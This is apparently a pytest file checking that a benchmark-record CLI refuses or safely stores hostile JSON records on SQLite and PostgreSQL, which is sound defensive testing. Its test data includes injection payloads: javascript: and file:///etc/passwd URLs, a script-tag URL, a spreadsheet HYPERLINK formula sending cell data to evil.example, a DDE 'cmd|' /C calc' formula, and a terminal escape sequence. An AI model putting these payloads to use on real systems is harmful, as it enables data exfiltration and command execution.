"""Hostile records (rows 16-69 of section 1.1 of the reliability probe) through `validate` and `add`, in process, on
a real SQLite file and on the real PostgreSQL server: both commands and both databases agree. A record is refused
by all of them with the field named, or accepted by all of them and stored as `validate` gave it; a file that
holds no record (42, a nesting no reader can follow) is an `error:` line and nothing is stored.

Each record is read twice: as JSONL (two copies, pydantic's JSON path) and inside a JSON list (the dict path).
"""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import create_engine, text
from typer.testing import CliRunner

from conftest import VALID_RECORD, run_cli
from tpsdb import db
from tpsdb.cli import app
from tpsdb.record import validate
from tpsdb.store import iter_measurement_records

NAN, INF = float("nan"), float("inf")
ACCEPTED = "accepted"
TOMORROW = (datetime.now(timezone.utc).date() + timedelta(days=1)).isoformat()


def refused(field):
    return ("refused", field)


def error(words):
    return ("error", words)


def changed(change) -> str:
    record = copy.deepcopy(VALID_RECORD)
    change(record)
    return json.dumps(record)  # NaN and Infinity as Python writes them; a lone surrogate as its \u escape


def valid_with(old: str, new: str) -> str:
    """The valid record's JSON text with one piece of text replaced: for what json.dumps never writes."""
    line = json.dumps(VALID_RECORD)
    assert old in line
    return line.replace(old, new, 1)


def nested(depth: int) -> dict:
    value: dict = {}
    for _ in range(depth):
        value = {"a": value}
    return value


def deep_line(depth: int) -> str:
    return valid_with('"options": {', '"options": {"x": ' + '[' * depth + ']' * depth + ', ')


QUOTE = VALID_RECORD["source"]["quote"]
T = "tokens_per_second"

# id: (JSON text of the record, or ("file", whole file text), expectation); the number is the probe row.
CASES = {
    "16 NaN speed": (changed(lambda r: r.update(tokens_per_second=NAN)), refused(T)),
    "17 NaN speed, quote shows nan": (changed(lambda r: (r.update(tokens_per_second=NAN),
                                                          r["source"].update(quote="result: nan t/s"))), refused(T)),
    "18 1e309 with the README quote": (valid_with('"tokens_per_second": 59.02', '"tokens_per_second": 1e309'),
                                       refused(T)),
    "19 Infinity, quote shows inf": (changed(lambda r: (r.update(tokens_per_second=INF),
                                                        r["source"].update(quote="speed: inf t/s"))), refused(T)),
    "20 -Infinity": (changed(lambda r: r.update(tokens_per_second=-INF)), refused(T)),
    "20 negative": (changed(lambda r: r.update(tokens_per_second=-59.02)), refused(T)),
    "20 zero": (changed(lambda r: (r.update(tokens_per_second=0), r["source"].update(quote="0 t/s"))), refused(T)),
    "21 1e300": (changed(lambda r: (r.update(tokens_per_second=1e300), r["source"].update(quote="1e+300 t/s"))),
                 refused(T)),
    "22 a string speed": (changed(lambda r: r.update(tokens_per_second="59.02")), refused(T)),
    "22 true speed": (changed(lambda r: (r.update(tokens_per_second=True), r["source"].update(quote="1 t/s"))),
                      refused(T)),
    "23 NaN stddev": (changed(lambda r: r.update(stddev=NAN)), refused("stddev")),
    "23 Infinity stddev": (changed(lambda r: r.update(stddev=INF)), refused("stddev")),
    "24 NaN params": (changed(lambda r: r["model"].update(params_b=NAN)), refused("model.params_b")),
    "25 NaN size": (changed(lambda r: r["model"].update(file_size_gb=NAN)), refused("model.file_size_gb")),
    "26 NaN bandwidth": (changed(lambda r: r["hardware"].update(memory_bandwidth_gbs=NAN)),
                         refused("hardware.memory_bandwidth_gbs")),
    "27 Infinity bandwidth": (changed(lambda r: r["hardware"].update(memory_bandwidth_gbs=INF, memory_gb=-5)),
                              refused("hardware.memory_bandwidth_gbs")),
    "28 negative memory and cores": (changed(lambda r: r["hardware"].update(memory_gb=-128, gpu_cores=-6)),
                                     refused("hardware.memory_gb")),
    "29 1e20 tokens": (changed(lambda r: r["lengths"].update(generated_tokens=1e20)),
                       refused("lengths.generated_tokens")),
    "29 10**20 tokens": (changed(lambda r: r["lengths"].update(generated_tokens=10**20)),
                         refused("lengths.generated_tokens")),
    "29 1e19 users": (changed(lambda r: r["concurrency"].update(users=10**19)), refused("concurrency.users")),
    "29 1e30 cores": (changed(lambda r: r["hardware"].update(gpu_cores=1e30)), refused("hardware.gpu_cores")),
    "29 5000 digits": (valid_with('"generated_tokens": 32', '"generated_tokens": ' + "9" * 5000),
                       error("number too long")),
    "30 options 1e30": (changed(lambda r: r["software"]["options"].update(ngl=1e30)), ACCEPTED),
    "30 options NaN": (changed(lambda r: r["software"]["options"].update(ngl=NAN)), refused("software.options.ngl")),
    "31 true users": (changed(lambda r: r["concurrency"].update(users=True)), refused("concurrency.users")),
    "31 users 1.0": (changed(lambda r: r["concurrency"].update(users=1.0)), ACCEPTED),
    "31 users 1.5": (changed(lambda r: r["concurrency"].update(users=1.5)), refused("concurrency.users")),
    "31 tokens as a string": (changed(lambda r: r["lengths"].update(generated_tokens="32")),
                              refused("lengths.generated_tokens")),
    "31 null context depth": (changed(lambda r: r["lengths"].update(context_depth=None)), ACCEPTED),
    "32 10 MB quote": (changed(lambda r: r["source"].update(quote="x" * 10_000_000 + " 59.02 t/s")), ACCEPTED),
    "33 10 MB model name": (changed(lambda r: r["model"].update(name="m" * 10_000_000)), refused("model.name")),
    "33 10 MB url": (changed(lambda r: r["source"].update(url="https://example.com/" + "u" * 10_000_000)),
                     refused("source.url")),
    "34 options nested 20 deep": (changed(lambda r: r["software"].update(options=nested(20))),
                                  refused("software.options")),
    "34 options nested 1000 deep": (deep_line(1000), error("nested too deeply")),
    "34 options nested 100000 deep": (deep_line(100_000), error("nested too deeply")),
    "34 a document nested 100000 deep": (("file", "[" * 100_000 + "]" * 100_000), error("nested too deeply")),
    "35 duplicate speed, the last is wrong": (valid_with('"stddev"', '"tokens_per_second": 999.5, "stddev"'),
                                              refused("source.quote")),
    "35 duplicate speed, the last is right": (valid_with('"tokens_per_second": 59.02',
                                                         '"tokens_per_second": 999.5, "tokens_per_second": 59.02'),
                                              ACCEPTED),
    "36 unknown field": (changed(lambda r: r.update(evil=1)), refused('record: unknown field "evil"')),
    "36 unknown source field": (changed(lambda r: r["source"].update(evil=1)),
                                refused('record: unknown field "source.evil"')),
    "36 unknown option": (changed(lambda r: r["software"]["options"].update(evil=1)), ACCEPTED),
    "37 lone surrogate in author": (changed(lambda r: r["source"].update(author="x\ud800y")),
                                    refused("source.author")),
    "37 lone surrogate in an option key": (changed(lambda r: r["software"]["options"].update({"k\udc00": 1})),
                                           refused("software.options")),
    "37 lone surrogate in an unknown key": (changed(lambda r: r.update({"\ud800": 1})), refused("record")),
    "37 a surrogate pair is text": (changed(lambda r: r["source"].update(author="\ud83d\ude00")), ACCEPTED),
    "38 NUL in author": (changed(lambda r: r["source"].update(author="a\x00b")), refused("source.author")),
    "38 NUL in quote": (changed(lambda r: r["source"].update(quote=QUOTE + "\x00")), refused("source.quote")),
    "38 NUL in an option": (changed(lambda r: r["software"]["options"].update(x="\x00")),
                            refused("software.options.x")),
    "39 retrieved in 2027": (changed(lambda r: r["source"].update(retrieved_at="2027-01-01")),
                             refused("source.retrieved_at")),
    "39 retrieved tomorrow": (changed(lambda r: r["source"].update(retrieved_at=TOMORROW)),
                              refused("source.retrieved_at")),
    "40 month 13": (changed(lambda r: r["source"].update(retrieved_at="2026-13-45")), refused("source.retrieved_at")),
    "40 yesterday": (changed(lambda r: r["source"].update(retrieved_at="yesterday")), refused("source.retrieved_at")),
    "41 date 0": (changed(lambda r: r["source"].update(retrieved_at=0)), refused("source.retrieved_at")),
    "42 Unix time": (changed(lambda r: r["source"].update(retrieved_at=1757116800)), refused("source.retrieved_at")),
    "43 midnight datetime": (changed(lambda r: r["source"].update(retrieved_at="2026-09-06T00:00:00")), ACCEPTED),
    "43 datetime with a time": (changed(lambda r: r["source"].update(retrieved_at="2026-09-06T10:00:00+02:00")),
                                refused("source.retrieved_at")),
    "44 year 1": (changed(lambda r: r["source"].update(retrieved_at="0001-01-01")), refused("source.retrieved_at")),
    "44 published in 1989": (changed(lambda r: r["source"].update(published_at="1989-12-31")),
                             refused("source.published_at")),
    "45 published after retrieval": (changed(lambda r: r["source"].update(published_at="2030-01-01")),
                                     refused("source.published_at")),
    "46 via published in 2099": (changed(lambda r: r["source"].update(via={"published_at": "2099-01-01"})),
                                 refused("source.via.published_at")),
    "47 javascript url": (changed(lambda r: r["source"].update(url="javascript:alert(1)")), refused("source.url")),
    "47 file url": (changed(lambda r: r["source"].update(url="file:///etc/passwd")), refused("source.url")),
    "47 data url": (changed(lambda r: r["source"].update(url="data:text/html,<b>x</b>")), refused("source.url")),
    "47 ftp url": (changed(lambda r: r["source"].update(url="ftp://example.com/x")), refused("source.url")),
    "48 upper-case scheme": (changed(lambda r: r["source"].update(url="HTTPS://example.com/x")), ACCEPTED),
    "49 trailing newline": (changed(lambda r: r["source"].update(url="https://example.com/x\n")),
                            refused("source.url")),
    "49 a tab inside": (changed(lambda r: r["source"].update(url="https://example.com/\tx")), refused("source.url")),
    "50 markup in the url": (changed(lambda r: r["source"].update(url='https://example.com/"><script>alert(1)</script>')),
                             ACCEPTED),
    "51 credentials": (changed(lambda r: r["source"].update(url="https://user:pass@evil.example/x")),
                       refused("source.url")),
    "52 javascript via url": (changed(lambda r: r["source"].update(via={"url": "javascript:alert(1)"})),
                              refused("source.via.url")),
    "53 speed 5": (changed(lambda r: r.update(tokens_per_second=5)), refused("source.quote")),
    "54 speed 9.02": (changed(lambda r: r.update(tokens_per_second=9.02)), refused("source.quote")),
    "54 speed 2": (changed(lambda r: r.update(tokens_per_second=2)), refused("source.quote")),
    "54 speed 0.1": (changed(lambda r: r.update(tokens_per_second=0.1)), refused("source.quote")),
    "54 speed 3": (changed(lambda r: r.update(tokens_per_second=3)), refused("source.quote")),
    "55 speed 116.83, the parameter count": (changed(lambda r: r.update(tokens_per_second=116.83)),
                                             refused("source.quote")),
    # a limit, documented: the quote's batch-size cell is a number of the quote like any other
    "55 speed 2048, the batch size": (changed(lambda r: r.update(tokens_per_second=2048)), ACCEPTED),
    "56 quote without the value": (changed(lambda r: r["source"].update(quote="fast")), refused("source.quote")),
    "56 quote of spaces": (changed(lambda r: r["source"].update(quote="   ")), refused("source.quote")),
    "57 params 116830": (changed(lambda r: r["model"].update(params_b=116830)), refused("model.params_b")),
    "58 Llama 2 7B in millions": (changed(lambda r: (r["model"].update(name="Llama 2 7B", params_b=6738,
                                                                       file_size_gb=3.79),
                                                     r.update(quantization="Q4_0"))), refused("model.params_b")),
    "59 params 116830 M": (changed(lambda r: r["model"].update(params_b="116830 M")), ACCEPTED),
    "59 params 1.1683e11": (changed(lambda r: r["model"].update(params_b=1.1683e11)), refused("model.params_b")),
    "59 params negative": (changed(lambda r: r["model"].update(params_b=-116.83)), refused("model.params_b")),
    "59 params 0": (changed(lambda r: r["model"].update(params_b=0)), refused("model.params_b")),
    "59 params lots": (changed(lambda r: r["model"].update(params_b="lots")), refused("model.params_b")),
    "59 params true": (changed(lambda r: r["model"].update(params_b=True)), refused("model.params_b")),
    "60 size in MB as GB": (changed(lambda r: r["model"].update(file_size_gb=63370)), refused("model.file_size_gb")),
    "60 size 3790 for 6.74 B": (changed(lambda r: r["model"].update(params_b=6.74, file_size_gb=3790)),
                                refused("model.file_size_gb")),
    "60 size 0.06337": (changed(lambda r: r["model"].update(file_size_gb=0.06337)), refused("model.file_size_gb")),
    "61 size 59.02 GiB": (changed(lambda r: r["model"].update(file_size_gb="59.02 GiB")), ACCEPTED),
    "61 size 63370 MB": (changed(lambda r: r["model"].update(file_size_gb="63370 MB")), ACCEPTED),
    "61 size 59 PB": (changed(lambda r: r["model"].update(file_size_gb="59 PB")), refused("model.file_size_gb")),
    "62 active above total": (changed(lambda r: r["model"].update(active_params_b=200)),
                              refused("model.active_params_b")),
    "63 4-bit": (changed(lambda r: r.update(quantization="4-bit")), refused("quantization")),
    "63 mxfp4": (changed(lambda r: r.update(quantization="mxfp4")), ACCEPTED),
    # stored as given; neutralising them is the job of the CSV and terminal output (D20)
    "68 spreadsheet formulas": (changed(lambda r: (
        r["hardware"].update(name='=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        r["source"].update(author="@SUM(1+1)*cmd|' /C calc'!A0"))), ACCEPTED),
    "69 terminal escape in a name": (changed(lambda r: r["model"].update(name="gpt-oss \x1b]0;pwned\x07")),
                                     refused("model.name")),
    # D21: a JSON value that is not an object is no record: an error, not a rejection row
    "4 the number 42": (("file", "42\n"), error("[1]: not a JSON object")),
    "4 a string": (("file", '"a string"\n'), error("[1]: not a JSON object")),
    "4 null": (("file", "null\n"), error("[1]: not a JSON object")),
    "4 a list in a list": (("file", json.dumps([[VALID_RECORD]])), error("[1]: not a JSON object")),
    "4 a JSONL line 42": (("file", json.dumps(VALID_RECORD) + "\n42\n"), error(":2: not a JSON object")),
}


def invoke(*args: str):
    result = CliRunner().invoke(app, list(args))
    db.close_all()  # in process: release the connections, as the command's exit would
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit), \
        result.exception  # never a traceback
    return result


@pytest.fixture(scope="module")
def databases(postgres, tmp_path_factory):
    """An empty SQLite file and an empty PostgreSQL database, initialised once, copied for each case."""
    bindir, as_user, port = postgres
    sqlite = tmp_path_factory.mktemp("hostile") / "template.sqlite"
    run_cli("init", "--no-seed", db=sqlite)
    server = f"postgresql+psycopg://postgres@127.0.0.1:{port}"
    pg = ["-h", "127.0.0.1", "-p", str(port), "-U", "postgres"]
    subprocess.run(as_user + [f"{bindir}/createdb", *pg, "hostile_template"], check=True, capture_output=True)
    run_cli("init", "--no-seed", "--db", f"{server}/hostile_template")
    return sqlite, server, lambda *command: subprocess.run(as_user + [f"{bindir}/{command[0]}", *pg, *command[1:]],
                                                           check=True, capture_output=True)


def stored(url: str) -> tuple[int, int, list[dict]]:
    engine = create_engine(url)
    try:
        with engine.connect() as connection:
            counts = [connection.execute(text(f"select count(*) from {table}")).scalar()
                      for table in ("measurement", "rejection")]
        return counts[0], counts[1], list(iter_measurement_records(engine))
    finally:
        engine.dispose()


@pytest.mark.parametrize("case", CASES)
def test_d13_validate_and_add_agree_on_sqlite_and_postgres(case, databases, tmp_path):
    content, expected = CASES[case]
    sqlite_template, server, pg_tool = databases
    if isinstance(content, tuple):  # a whole file
        files = [tmp_path / "input.json"]
        files[0].write_text(content[1], encoding="utf-8")
    else:  # one record: as JSONL (two copies) and inside a JSON list
        files = [tmp_path / "input.jsonl", tmp_path / "input.json"]
        files[0].write_text(content + "\n" + content + "\n", encoding="utf-8")
        files[1].write_text("[\n" + content + "\n]\n", encoding="utf-8")

    # validate against the database add stores into: what it accepts there, add stores there
    checks = [invoke("validate", str(path), "--db", str(sqlite_template)) for path in files]
    kind = expected if expected == ACCEPTED else expected[0]
    code = {ACCEPTED: 0, "refused": 1, "error": 2}[kind]
    for path, result in zip(files, checks):
        assert result.exit_code == code, (path.name, result.stdout, result.stderr)
    if kind == "refused":
        reasons = [{reason for line in result.stdout.splitlines() for reason in line.split(": ", 1)[1].split("; ")}
                   for result in checks]
        assert all(r == reasons[0] for r in reasons), reasons  # JSONL and JSON list: the same reasons
        assert any(reason.startswith(expected[1]) for reason in reasons[0]), reasons[0]
    if kind == "error":
        assert checks[0].stderr.startswith(f"error: {files[0]}") and expected[1] in checks[0].stderr, checks[0].stderr

    sqlite = tmp_path / "db.sqlite"
    shutil.copy(sqlite_template, sqlite)
    pg_name = "h_" + str(abs(hash(case)))
    pg_tool("createdb", "-T", "hostile_template", pg_name)
    try:
        for url in (f"sqlite:///{sqlite}", f"{server}/{pg_name}"):
            added = invoke("add", str(files[0]), "--db", url)
            measurements, rejections, records = stored(url)
            if kind == "error":
                assert added.exit_code == 2 and added.stderr.startswith("error: "), (url, added.stderr)
                assert "nothing was stored" in added.stderr and (measurements, rejections) == (0, 0)
            elif kind == "refused":
                assert added.exit_code == 1, (url, added.stderr)  # some record rejected (and stored as such)
                assert (measurements, rejections) == (0, 1), url
            else:
                assert added.exit_code == 0, (url, added.stderr)
                assert (measurements, rejections) == (1, 0), url
                given = json.loads(content)
                assert records == [validate(given).record.to_json_dict()], url
                assert records[0]["tokens_per_second"] == given["tokens_per_second"]
    finally:
        pg_tool("dropdb", pg_name)


@pytest.mark.parametrize("value", [42, "a string", None, [[VALID_RECORD]]])
def test_d21_a_value_that_is_not_an_object_is_an_error_not_a_rejection(value, tmp_path, empty_db):
    path = tmp_path / "values.jsonl"
    path.write_text(json.dumps(VALID_RECORD) + "\n" + json.dumps(value) + "\n", encoding="utf-8")
    for command in (["validate", str(path)], ["add", str(path), "--db", str(empty_db)]):
        result = invoke(*command)
        assert result.exit_code == 2 and result.stderr.startswith(f"error: {path}:2: not a JSON object"), result.stderr
    assert stored(f"sqlite:///{empty_db}")[:2] == (0, 0)
